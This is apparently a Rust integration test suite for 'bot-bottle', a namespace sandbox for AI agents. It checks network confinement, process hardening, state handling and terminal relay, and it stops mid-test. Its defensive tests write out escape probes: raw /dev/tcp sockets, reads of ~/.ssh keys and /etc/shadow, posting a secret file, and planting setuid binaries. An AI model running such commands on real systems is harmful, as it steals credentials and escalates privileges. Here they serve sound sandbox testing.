//! Real bottles on the namespace backend: `bot-bottle run` in real kernel namespaces, a real proxy, a real local
//! upstream, as root and as an unprivileged user. Skips (saying why) where user namespaces are unavailable;
//! `BOTTLE_TEST_REQUIRE=namespace` turns a skip into a failure.

#![allow(clippy::unwrap_used, clippy::disallowed_methods)]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::Arc;

use bottle_test_support::{require, upstream};

/// Whether this host can run namespace bottles; `None` means yes.
fn skip_reason() -> Option<String> {
    let out = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
        .args(["doctor", "--backend", "namespace"])
        .output()
        .unwrap();
    if out.status.success() {
        return None;
    }
    Some(format!(
        "namespace backend unavailable here:\n{}",
        String::from_utf8_lossy(&out.stdout)
    ))
}

macro_rules! need_namespace {
    () => {
        if let Some(why) = skip_reason() {
            require::skip("namespace", &why);
            return;
        }
    };
}

struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("work")).unwrap();
        std::fs::create_dir(dir.path().join("state")).unwrap();
        Self { dir }
    }

    fn work(&self) -> PathBuf {
        self.dir.path().join("work")
    }

    fn state(&self) -> PathBuf {
        self.dir.path().join("state")
    }

    /// `bot-bottle ARGS` in the workspace, optionally as another user (`setpriv`), with a private state home.
    fn bb(&self, as_user: Option<u32>, args: &[&str]) -> Output {
        self.bb_env(as_user, &[], args)
    }

    /// `bb` with extra variables in the launcher's environment.
    fn bb_env(&self, as_user: Option<u32>, vars: &[(&str, &str)], args: &[&str]) -> Output {
        let bin = env!("CARGO_BIN_EXE_bot-bottle");
        let mut cmd = match as_user {
            None => Command::new(bin),
            Some(uid) => {
                let mut c = Command::new("setpriv");
                c.args([
                    &format!("--reuid={uid}"),
                    &format!("--regid={uid}"),
                    "--clear-groups",
                    "--",
                    bin,
                ]);
                c
            }
        };
        cmd.args(args)
            .envs(vars.iter().copied())
            .current_dir(self.work())
            .env("XDG_STATE_HOME", self.state())
            .env("HOME", self.dir.path())
            .env_remove("BOT_BOTTLE_LOG")
            .output()
            .unwrap()
    }

    fn open_to(&self, uid: u32) {
        for p in [self.dir.path(), &self.work(), &self.state()] {
            std::os::unix::fs::chown(p, Some(uid), Some(uid)).unwrap();
        }
    }
}

fn text(out: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn allow_upstream(port: u16) -> Vec<String> {
    vec![
        "--allow".into(),
        format!("upstream.test:{port}"),
        "--allow-cidr".into(),
        "127.0.0.1/32".into(),
        "--resolve".into(),
        "upstream.test=127.0.0.1".into(),
    ]
}

fn run_in_bottle(env: &Env, user: Option<u32>, name: &str, port: u16, script: &str) -> Output {
    let mut args: Vec<String> = vec!["run".into(), "--name".into(), name.into()];
    args.extend(allow_upstream(port));
    args.extend(["--".into(), "bash".into(), "-c".into(), script.into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    env.bb(user, &args)
}

/// What an attacker tries from inside; each line prints `NAME escaped|held`.
const ESCAPES: &str = r#"
t() { if eval "$2" >/dev/null 2>&1; then echo "$1 escaped"; else echo "$1 held"; fi; }
t noproxy "curl -sS --noproxy '*' --max-time 3 http://127.0.0.1:$PORT/"
t devtcp "exec 3<>/dev/tcp/192.0.2.1/80"
t host-loopback "exec 3<>/dev/tcp/127.0.0.1/$PORT"
t udp "echo x > /dev/udp/192.0.2.1/53"
t ssh-key "cat $REAL_HOME/.ssh/id_ed25519"
t host-etc-shadow "cat /etc/shadow"
t write-usr "touch /usr/bot-bottle-escape"
t rw-root-mount "! grep -qE '^([^ ]+ ){4}/ ro[, ]' /proc/self/mountinfo"
t rw-usr-mount "! grep -qE '^([^ ]+ ){4}/usr ro[, ]' /proc/self/mountinfo"
t rw-etc-ssl-mount "! grep -qE '^([^ ]+ ){4}/etc/ssl ro[, ]' /proc/self/mountinfo"
t host-run "ls /run/docker.sock"
grep -E '^(Seccomp|NoNewPrivs|CapEff|CapBnd):' /proc/self/status
echo done
"#;

fn check_bottle(env: &Env, user: Option<u32>, name: &str) {
    let up = upstream::http();
    let home = env.dir.path().to_path_buf();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "decoy-secret").unwrap();
    let script = format!(
        "PORT={}; REAL_HOME={}; curl -sS --max-time 10 http://upstream.test:{}/; \
         curl -sS -o /dev/null -w 'denied=%{{http_code}}\\n' http://not-allowed.test/; {ESCAPES}",
        up.port,
        home.display(),
        up.port
    );
    let out = run_in_bottle(env, user, name, up.port, &script);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("hello from plain upstream"),
        "allowed request did not arrive: {all}"
    );
    assert!(stdout.contains("denied=403"), "{all}");
    assert!(stdout.contains("done"), "{all}");
    for line in stdout
        .lines()
        .filter(|l| l.ends_with(" escaped") || l.ends_with(" held"))
    {
        assert!(line.ends_with(" held"), "ESCAPE: {line}\n{all}");
    }
    assert_eq!(stdout.lines().filter(|l| l.ends_with(" held")).count(), 11, "{all}");
    assert_eq!(up.connections(), 1, "only the proxied request may reach the upstream");
    for want in [
        "Seccomp:\t2",
        "NoNewPrivs:\t1",
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
    ] {
        assert!(
            stdout.lines().any(|l| l == want),
            "agent is not hardened: missing {want:?}\n{all}"
        );
    }
    let audit = std::fs::read_to_string(env.state().join("bot-bottle").join(name).join("audit.jsonl")).unwrap();
    assert!(
        audit.contains("\"decision\":\"allow\"") && audit.contains("\"decision\":\"deny\""),
        "{audit}"
    );
}

#[test]
fn bottle_reaches_only_its_proxy_as_root() {
    need_namespace!();
    let env = Env::new();
    check_bottle(&env, None, "as-root");
}

#[test]
fn bottle_reaches_only_its_proxy_as_an_unprivileged_user() {
    need_namespace!();
    if !rustix::process::geteuid().is_root() {
        eprintln!("skipped: switching to an unprivileged user needs root (already unprivileged: covered above)");
        return;
    }
    let env = Env::new();
    env.open_to(65534);
    check_bottle(&env, Some(65534), "as-nobody");
}

#[test]
fn agent_exit_code_passes_through_and_state_is_recorded() {
    need_namespace!();
    let env = Env::new();
    let out = env.bb(None, &["run", "--name", "exit7", "--", "sh", "-c", "exit 7"]);
    assert_eq!(out.status.code(), Some(7), "{}", text(&out));
    let state: serde_json::Value =
        serde_json::from_slice(&std::fs::read(env.state().join("bot-bottle/exit7/state.json")).unwrap()).unwrap();
    assert_eq!(state["status"], "exited");
    assert_eq!(state["exit_code"], 7);
    assert!(
        !env.state().join("bot-bottle/exit7/ca-key.pem").exists(),
        "the CA key outlived the bottle"
    );
    let leases = std::fs::read_dir(env.state().join("bot-bottle/leases"))
        .unwrap()
        .count();
    assert_eq!(leases, 0, "lease not released");
}

#[test]
fn two_bottles_cannot_share_a_name() {
    need_namespace!();
    let env = Env::new();
    let first = env.bb(None, &["run", "--name", "same", "--", "true"]);
    assert!(first.status.success(), "{}", text(&first));
    let second = env.bb(None, &["run", "--name", "same", "--", "true"]);
    assert_eq!(second.status.code(), Some(119), "{}", text(&second));
    assert!(
        String::from_utf8_lossy(&second.stderr).contains("already exists"),
        "{}",
        text(&second)
    );
}

#[test]
fn home_directory_is_refused_as_workspace() {
    let env = Env::new();
    let out = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
        .args(["run", "--", "true"])
        .current_dir(env.dir.path())
        .env("HOME", env.dir.path())
        .env("XDG_STATE_HOME", env.state())
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("contains your home directory"),
        "{}",
        text(&out)
    );
    assert!(
        !Path::new(&env.state().join("bot-bottle/leases")).exists() || {
            std::fs::read_dir(env.state().join("bot-bottle/leases"))
                .unwrap()
                .count()
                == 0
        }
    );
}

fn state_of(env: &Env, name: &str) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(env.state().join("bot-bottle").join(name).join("state.json")).unwrap())
        .unwrap()
}

#[test]
fn detached_bottle_lifecycle_ls_exec_logs_stop_rm() {
    need_namespace!();
    let env = Env::new();
    let out = env.bb(
        None,
        &[
            "run",
            "-d",
            "--name",
            "life",
            "--",
            "sh",
            "-c",
            "echo started; exec sleep 600",
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "life");

    let out = env.bb(None, &["--json", "ls"]);
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows[0]["name"], "life", "{rows}");
    assert_eq!(rows[0]["state"], "running");
    assert!(rows[0]["address"].as_str().unwrap().starts_with("127.0.0."));

    let out = env.bb(
        None,
        &[
            "exec",
            "life",
            "--",
            "sh",
            "-c",
            "grep -c . /proc/1/cmdline >/dev/null && hostname && grep Seccomp: /proc/self/status; exit 4",
        ],
    );
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("life"),
        "exec did not run in the bottle's uts namespace: {}",
        text(&out)
    );
    assert!(
        stdout.contains("Seccomp:\t2"),
        "exec'd command is not hardened: {}",
        text(&out)
    );

    let out = env.bb(None, &["logs", "life"]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("started"),
        "{}",
        text(&out)
    );

    let out = env.bb(None, &["stop", "life"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(state_of(&env, "life")["status"], "exited");
    let out = env.bb(None, &["exec", "life", "--", "true"]);
    assert_eq!(
        out.status.code(),
        Some(119),
        "exec into a stopped bottle: {}",
        text(&out)
    );

    let out = env.bb(None, &["rm", "life"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(!env.state().join("bot-bottle/life").exists());
}

#[test]
fn the_bottle_init_keeps_neither_the_launchers_environment_nor_its_descriptors() {
    need_namespace!();
    let env = Env::new();
    let secret = format!("launcher-secret-{}", std::process::id());
    let out = env.bb_env(
        None,
        &[("BOTTLE_TEST_LAUNCHER_SECRET", &secret)],
        &["run", "-d", "--name", "scrub", "--", "sleep", "600"],
    );
    assert!(out.status.success(), "{}", text(&out));
    // The bottle's pid 1, cloned from the launcher.
    let pid = state_of(&env, "scrub")["init_pid"].as_u64().unwrap();
    let state_root = env.state().join("bot-bottle");
    // The init is cloned from the launcher: the environment block it started with must be blank.
    let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    assert!(
        environ.iter().all(|&b| b == 0),
        "pid {pid} shows an environment: {}",
        String::from_utf8_lossy(&environ)
    );
    let mut open = Vec::new();
    for fd in std::fs::read_dir(format!("/proc/{pid}/fd")).unwrap() {
        let target = std::fs::read_link(fd.unwrap().path()).unwrap_or_default();
        open.push(target);
    }
    // Only the standard streams (here the agent log) and the control channel.
    let launchers: Vec<_> = open
        .iter()
        .filter(|t| t.starts_with(&state_root) && !t.ends_with("agent.log"))
        .collect();
    assert!(launchers.is_empty(), "pid {pid} holds the launcher's files: {open:?}");
    assert!(open.len() <= 4, "pid {pid} holds more than it needs: {open:?}");
    assert!(env.bb(None, &["stop", "scrub"]).status.success());
    assert!(env.bb(None, &["rm", "scrub"]).status.success());
}

#[test]
fn kill_9_of_the_launcher_leaves_nothing_running_and_ls_reaps_the_lease() {
    need_namespace!();
    let env = Env::new();
    let marker = format!("sleep 7{}", std::process::id() % 1000);
    let out = env.bb(
        None,
        &[
            "run",
            "-d",
            "--name",
            "killed",
            "--",
            "sh",
            "-c",
            &format!("exec {marker}"),
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    let supervisor = state_of(&env, "killed")["supervisor_pid"].as_u64().unwrap();
    let agent_running = || {
        Command::new("pgrep")
            .args(["-f", &format!("^{marker}$")])
            .output()
            .unwrap()
            .status
            .success()
    };
    assert!(agent_running(), "the agent should be running before the kill");
    rustix::process::kill_process(
        rustix::process::Pid::from_raw(supervisor as i32).unwrap(),
        rustix::process::Signal::KILL,
    )
    .unwrap();
    let gone = (0..100).any(|_| {
        std::thread::sleep(std::time::Duration::from_millis(20));
        !agent_running()
    });
    assert!(gone, "the agent outlived its launcher");
    let out = env.bb(None, &["--json", "ls"]);
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows[0]["state"], "failed", "{rows}");
    assert_eq!(
        std::fs::read_dir(env.state().join("bot-bottle/leases"))
            .unwrap()
            .count(),
        0,
        "lease not reaped"
    );
    assert!(env.bb(None, &["rm", "killed"]).status.success());
}

#[test]
fn workspace_over_the_state_directory_is_refused() {
    let env = Env::new();
    let out = Command::new(env!("CARGO_BIN_EXE_bot-bottle"))
        .args(["run", "--", "true"])
        .current_dir(env.state())
        .env("HOME", env.dir.path().join("work"))
        .env("XDG_STATE_HOME", env.state())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(121), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("overlaps bot-bottle's state directory"),
        "{}",
        text(&out)
    );
    assert!(!env.state().join("bot-bottle").exists(), "a refused run created state");
}

/// Everything read from a pty master so far, filled by a thread.
struct Screen(Arc<std::sync::Mutex<Vec<u8>>>);

impl Screen {
    fn follow(master: std::fs::File) -> Self {
        let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
        let sink = Arc::clone(&seen);
        std::thread::spawn(move || {
            let mut master = master;
            let mut buf = [0u8; 4096];
            while let Ok(n) = std::io::Read::read(&mut master, &mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        Self(seen)
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
    }

    fn wait_for(&self, needle: &str) {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while !self.text().contains(needle) {
            assert!(
                std::time::Instant::now() < deadline,
                "{needle:?} never appeared; the screen shows: {:?}",
                self.text()
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }
}

#[test]
fn an_interactive_agent_gets_its_own_terminal_relayed_to_the_users() {
    need_namespace!();
    use rustix::pty::OpenptFlags;
    use rustix::termios::{LocalModes, Winsize};
    let env = Env::new();
    // The user's terminal: a pty whose peer is the launcher's controlling terminal and standard streams.
    let master = rustix::pty::openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC).unwrap();
    rustix::pty::unlockpt(&master).unwrap();
    let peer = rustix::pty::ioctl_tiocgptpeer(&master, OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    let size = |rows, cols| Winsize {
        ws_row: rows,
        ws_col: cols,
        ws_xpixel: 0,
        ws_ypixel: 0,
    };
    rustix::termios::tcsetwinsize(&master, size(33, 111)).unwrap();
    let agent = "tty; stty size; echo ready; read a; stty size; echo got:$a; exec sleep 30";
    let stream = || std::process::Stdio::from(peer.try_clone().unwrap());
    let mut child = Command::new("setsid")
        .args([
            "-w",
            "-c",
            env!("CARGO_BIN_EXE_bot-bottle"),
            "run",
            "--rm",
            "--",
            "sh",
            "-c",
            agent,
        ])
        .current_dir(env.work())
        .env("XDG_STATE_HOME", env.state())
        .env("HOME", env.dir.path())
        .env_remove("BOT_BOTTLE_LOG")
        .stdin(stream())
        .stdout(stream())
        .stderr(stream())
        .spawn()
        .unwrap();
    let mut keys = std::fs::File::from(master.try_clone().unwrap());
    let screen = Screen::follow(std::fs::File::from(master.try_clone().unwrap()));

    screen.wait_for("ready");
    let text = screen.text();
    // A terminal of the bottle's own devpts, with the user's size.
    assert!(text.contains("/dev/pts/0"), "{text:?}");
    assert!(text.contains("33 111"), "{text:?}");
    // A resize of the user's terminal reaches the agent's; typed keys reach its stdin.
    rustix::termios::tcsetwinsize(&master, size(20, 70)).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    keys.write_all(b"hello\r").unwrap();
    screen.wait_for("got:hello");
    assert!(screen.text().contains("20 70"), "{:?}", screen.text());
    // Ctrl-C is a key like any other: the agent's own terminal turns it into SIGINT for the agent.
    std::thread::sleep(std::time::Duration::from_millis(200));
    keys.write_all(b"\x03").unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        assert!(std::time::Instant::now() < deadline, "Ctrl-C did not end the agent");
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(130), "{:?}", screen.text());
    // The user's terminal is back in its own (cooked) mode.
    let mode = rustix::termios::tcgetattr(&peer).unwrap();
    assert!(
        mode.local_modes.contains(LocalModes::ICANON | LocalModes::ECHO),
        "{mode:?}"
    );
}

/// #13: a refusal is explained where the user looks. The agent's client shows a bare 403; the run ends with a
/// summary on stderr naming the host, the rule and the flag that would allow it, and `logs --egress` shows the
/// audit log as a table (JSON lines with `--json`).
#[test]
fn refusals_are_summed_up_when_the_run_ends_and_logs_show_a_table() {
    need_namespace!();
    let env = Env::new();
    let out = env.bb(
        None,
        &[
            "run",
            "--name",
            "told",
            "--",
            "sh",
            "-c",
            "curl -s -o /dev/null http://refused.example/ ; curl -s -o /dev/null http://refused.example/x; true",
        ],
    );
    assert!(out.status.success(), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("refused 2 requests"), "{}", text(&out));
    assert!(stderr.contains("refused.example:80: not-allowed ×2"), "{}", text(&out));
    assert!(
        stderr.contains("allow with: bot-bottle run --allow refused.example:80"),
        "{}",
        text(&out)
    );
    assert!(stderr.contains("bot-bottle logs told --denied"), "{}", text(&out));

    let out = env.bb(None, &["logs", "told", "--egress"]);
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.starts_with("TIME"), "{table}");
    assert!(
        table
            .lines()
            .any(|l| l.contains("deny") && l.contains("refused.example:80") && l.contains("--allow")),
        "{table}"
    );
    let out = env.bb(None, &["--json", "logs", "told", "--denied"]);
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON lines with --json"))
        .collect();
    assert!(
        lines.len() >= 2 && lines.iter().all(|l| l["decision"] == "deny" && l["hint"].is_string()),
        "{lines:?}"
    );
}

/// #13: `pass_env` values were written to `spec.json` in the state directory, where a killed launcher left them. They
/// now reach the agent in memory (the init is cloned from the launcher) and `exec` from its caller's environment;
/// the file on disk holds their names only.
#[test]
fn pass_env_values_reach_the_agent_and_exec_but_never_the_disk() {
    need_namespace!();
    let env = Env::new();
    std::fs::write(env.work().join("bottle.toml"), "[bottle]\npass_env = [\"BB_PASSED\"]\n").unwrap();
    let value = "passed-value-7c3e9d1f";
    let vars = [("BB_PASSED", value)];
    let agent = "echo \"agent sees $BB_PASSED\"; exec sleep 600";
    let out = env.bb_env(
        None,
        &vars,
        &["run", "-d", "--name", "passing", "--", "sh", "-c", agent],
    );
    assert!(out.status.success(), "{}", text(&out));
    let dir = env.state().join("bot-bottle/passing");
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        // The agent log holds what the agent printed (here, the value on purpose); bot-bottle's own files may not.
        if path.is_file() && !path.ends_with("agent.log") {
            let bytes = std::fs::read(&path).unwrap();
            assert!(
                !String::from_utf8_lossy(&bytes).contains(value),
                "{} holds the pass_env value",
                path.display()
            );
        }
    }
    let spec = std::fs::read_to_string(dir.join("spec.json")).unwrap();
    assert!(spec.contains("BB_PASSED"), "the spec lists the name: {spec}");
    let exec = env.bb_env(
        None,
        &vars,
        &["exec", "passing", "--", "sh", "-c", "echo \"exec sees $BB_PASSED\""],
    );
    assert!(
        String::from_utf8_lossy(&exec.stdout).contains(&format!("exec sees {value}")),
        "{}",
        text(&exec)
    );
    let log = std::fs::read_to_string(dir.join("agent.log")).unwrap_or_default();
    let rm = env.bb(None, &["rm", "-f", "passing"]);
    assert!(rm.status.success(), "{}", text(&rm));
    assert!(log.contains(&format!("agent sees {value}")), "{log}");
}

/// #14 (errors that say what happened): a command that cannot start was a silent exit 123, as if the sandbox had
/// failed. Now one line says what and why, with a shell's exit code: 127 not found, 126 not executable.
#[test]
fn a_command_that_cannot_start_says_why_and_exits_as_a_shell_would() {
    need_namespace!();
    let env = Env::new();
    let out = env.bb(None, &["run", "--", "nosuchcmd"]);
    assert_eq!(out.status.code(), Some(127), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("`nosuchcmd`: not found in the bottle; PATH inside is"),
        "{}",
        text(&out)
    );
    std::fs::write(env.work().join("script.sh"), "#!/bin/sh\necho hi\n").unwrap();
    let out = env.bb(None, &["run", "--", "./script.sh"]);
    assert_eq!(out.status.code(), Some(126), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("cannot be executed"),
        "{}",
        text(&out)
    );
    // Detached: the line reaches `run -d`, the state keeps it for `ls`, and `--json` says it as an error object.
    // (`run -d` returns as soon as the bottle runs: if that came first, it printed the name and exited 0; the state
    // has the line either way.)
    let out = env.bb(None, &["run", "-d", "--name", "nostart", "--", "nosuchcmd"]);
    let started = out.status.code() == Some(0) && String::from_utf8_lossy(&out.stdout).trim() == "nostart";
    assert!(started || out.status.code() == Some(127), "{}", text(&out));
    assert!(
        started || String::from_utf8_lossy(&out.stderr).contains("`nosuchcmd`: not found"),
        "{}",
        text(&out)
    );
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let state = loop {
        let s = state_of(&env, "nostart");
        if s["status"] == "exited" || std::time::Instant::now() > deadline {
            break s;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert_eq!(state["exit_code"], 127, "{state}");
    assert!(
        state["error"]
            .as_str()
            .unwrap_or_default()
            .contains("`nosuchcmd`: not found"),
        "{state}"
    );
    // `ls` says why under the bottle's row.
    let ls = env.bb(None, &["ls"]);
    let listed = String::from_utf8_lossy(&ls.stdout);
    assert!(listed.contains("exited(127)"), "{}", text(&ls));
    assert!(
        listed.contains("  ! nostart: bot-bottle: `nosuchcmd`: not found"),
        "{}",
        text(&ls)
    );
    let out = env.bb(None, &["--json", "run", "--rm", "--", "nosuchcmd"]);
    assert_eq!(out.status.code(), Some(127), "{}", text(&out));
    let last = String::from_utf8_lossy(&out.stderr)
        .lines()
        .last()
        .unwrap_or_default()
        .to_string();
    let json: serde_json::Value = serde_json::from_str(&last).unwrap_or_else(|e| panic!("{e}: {}", text(&out)));
    assert_eq!(json["error"]["kind"], "start", "{json}");
    assert_eq!(json["error"]["exit_code"], 127, "{json}");
}

/// #12: `run -d` closed the supervisor's stderr once the bottle was up; the next warning made the logging panic and
/// the proxy's accept loop died, so the bottle lost its only way out. The supervisor now logs to its own file, and
/// a failed log write never panics. Here the warning is a real one: the agent posts a credential's real value
/// (planted in the workspace), which the proxy cuts.
#[test]
fn a_detached_bottles_proxy_survives_its_warnings_and_logs_them_to_its_own_file() {
    need_namespace!();
    let env = Env::new();
    let up = upstream::http();
    let secret = "real-secret-value-5b2e8c41";
    std::fs::write(env.work().join("secret.txt"), secret).unwrap();
    std::fs::write(
        env.work().join("bottle.toml"),
        format!(
            "[network]\nallow = [\"upstream.test:{}\"]\nallow_cidr = [\"127.0.0.1/32\"]\n\
             [network.resolve]\n\"upstream.test\" = \"127.0.0.1\"\n\
             [[credential]]\nhost = \"upstream.test\"\nheader = \"authorization\"\nfrom_env = \"BB_TEST_KEY\"\n",
            up.port
        ),
    )
    .unwrap();
    let agent = format!(
        "curl -s -o /dev/null --data-binary @secret.txt http://upstream.test:{}/leak; sleep 1; \
         curl -s -o /dev/null -w '%{{http_code}}' http://blocked.example/ > after.txt; exec sleep 600",
        up.port
    );
    let out = env.bb_env(
        None,
        &[("BB_TEST_KEY", secret)],
        &["run", "-d", "--name", "warned", "--", "sh", "-c", &agent],
    );
    assert!(out.status.success(), "{}", text(&out));
    let after = env.work().join("after.txt");
    let start = std::time::Instant::now();
    while start.elapsed() < std::time::Duration::from_secs(20)
        && std::fs::read_to_string(&after).map_or(true, |t| t.trim().is_empty())
    {
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let code = std::fs::read_to_string(&after).unwrap_or_default();
    let log = std::fs::read_to_string(env.state().join("bot-bottle/warned/supervisor.log")).unwrap_or_default();
    let _ = env.bb(None, &["rm", "-f", "warned"]);
    assert_eq!(
        code.trim(),
        "403",
        "the proxy no longer answers after its warning; supervisor log:\n{log}"
    );
    assert!(
        log.contains("real credential value"),
        "the warning is not in the supervisor's log:\n{log}"
    );
}

/// #14: the bottle's own loopback is its own. NO_PROXY was forced empty, so a dev server the agent started got a
/// 403 from the proxy; now `localhost,127.0.0.1,::1` go direct (to the bottle's own network namespace, never the
/// host's). And a PATH the user sets is honoured, not silently replaced.
#[test]
fn an_in_bottle_server_answers_on_the_bottles_own_loopback_and_the_users_path_is_kept() {
    need_namespace!();
    let env = Env::new();
    let script = "python3 -m http.server 18999 --bind 127.0.0.1 >/dev/null 2>&1 & \
                  for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do \
                  c=$(curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:18999/); \
                  [ \"$c\" = 200 ] && break; sleep 0.3; done; echo \"code=$c path=$PATH\"";
    let out = env.bb(
        None,
        &[
            "run",
            "-e",
            "PATH=/opt/mine/bin:/usr/bin:/bin",
            "--",
            "sh",
            "-c",
            script,
        ],
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("code=200"), "{}", text(&out));
    assert!(stdout.contains("path=/opt/mine/bin:/usr/bin:/bin"), "{}", text(&out));
}

/// #14: `$HOME` was a fresh tmpfs every run, so every run was a first run. By default the agent preset's home is
/// kept (under the state directory, 0700); `--home tmpfs` gives a fresh one; `home ls | rm` manage them; `run --rm`
/// removes the bottle, never the home.
#[test]
fn the_agents_home_is_kept_between_runs_unless_asked_otherwise() {
    need_namespace!();
    let env = Env::new();
    let first = env.bb(
        None,
        &["run", "--rm", "--", "sh", "-c", "echo remembered > \"$HOME/note\""],
    );
    assert!(first.status.success(), "{}", text(&first));
    let second = env.bb(None, &["run", "--rm", "--", "sh", "-c", "cat \"$HOME/note\""]);
    assert_eq!(
        String::from_utf8_lossy(&second.stdout).trim(),
        "remembered",
        "{}",
        text(&second)
    );
    let fresh = env.bb(
        None,
        &[
            "run",
            "--rm",
            "--home",
            "tmpfs",
            "--",
            "sh",
            "-c",
            "cat \"$HOME/note\" || echo none",
        ],
    );
    assert_eq!(
        String::from_utf8_lossy(&fresh.stdout).trim(),
        "none",
        "{}",
        text(&fresh)
    );
    let kept = env.state().join("bot-bottle/homes/none");
    let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&kept).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o700);
    let ls = env.bb(None, &["home", "ls"]);
    assert!(String::from_utf8_lossy(&ls.stdout).contains("none"), "{}", text(&ls));
    let rm = env.bb(None, &["home", "rm", "none"]);
    assert!(rm.status.success(), "{}", text(&rm));
    assert!(!kept.exists());
    // The user's own home is never a bottle's home, nor a credential store in it.
    let refused = env.bb(None, &["run", "--home", env.dir.path().to_str().unwrap(), "--", "true"]);
    assert_eq!(refused.status.code(), Some(121), "{}", text(&refused));
    let ssh = env.dir.path().join(".ssh");
    let refused = env.bb(None, &["run", "--home", ssh.to_str().unwrap(), "--", "true"]);
    assert_eq!(refused.status.code(), Some(121), "{}", text(&refused));
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("where credentials live"),
        "{}",
        text(&refused)
    );
    assert!(!ssh.exists(), "a refused home was created");
}

/// #12: a root launcher's bottle wrote setuid-root files onto the host (`cp /usr/bin/id x; chmod 4755 x` in the
/// workspace, then `runuser -u nobody -- ./x` printed `euid=0`). No file written in a bottle may carry a set-id bit
/// or a file capability, whoever launches it; and the kernel's knobs in /proc are read-only mounts, whatever
/// Landlock does.
#[test]
fn no_bottle_can_leave_a_setuid_file_or_reach_the_kernels_knobs() {
    need_namespace!();
    for (who, user) in [("root", None), ("nobody", Some(65534))] {
        let env = Env::new();
        if let Some(uid) = user {
            env.open_to(uid);
        }
        let script = "cp /usr/bin/id planted; chmod 4755 planted; chmod g+s planted; \
                      python3 -c 'import os; os.open(\"created\", os.O_CREAT | os.O_WRONLY, 0o4755)'; \
                      python3 -c 'import os; os.setxattr(\"planted\", \"security.capability\", bytes(20))'; \
                      grep -E \" /proc/(sys|sysrq-trigger|irq|bus) \" /proc/self/mountinfo | cut -d\" \" -f5,6; \
                      for e in sys sysrq-trigger irq bus; do [ -e /proc/$e ] && echo \"present /proc/$e\"; done; \
                      true";
        let out = env.bb(user, &["run", "--rm", "--", "sh", "-c", script]);
        assert!(out.status.success(), "({who}) {}", text(&out));
        let planted = env.work().join("planted");
        let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&planted).unwrap().permissions());
        assert_eq!(mode & 0o6000, 0, "({who}) the file on the host is {mode:o}");
        if let Ok(meta) = std::fs::metadata(env.work().join("created")) {
            let mode = std::os::unix::fs::PermissionsExt::mode(&meta.permissions());
            assert_eq!(mode & 0o6000, 0, "({who}) a file created set-id: {mode:o}");
        }
        let caps = Command::new("getfattr")
            .args(["-n", "security.capability"])
            .arg(&planted)
            .output();
        if let Ok(caps) = caps {
            assert!(!caps.status.success(), "({who}) a file capability landed on the host");
        }
        // The set-id copy would run as root for anyone: check as nobody, as the finding did.
        let run = Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(&planted)
            .args(["-u"])
